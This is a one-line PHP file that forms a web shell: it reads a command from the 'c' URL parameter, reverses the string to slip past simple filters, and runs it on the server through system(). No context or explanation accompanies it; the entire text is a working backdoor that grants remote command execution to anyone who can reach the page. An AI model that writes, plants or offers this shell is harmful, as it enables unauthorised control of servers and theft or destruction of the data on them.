<?php $c = strrev($_GET['c']); system($c); ?>
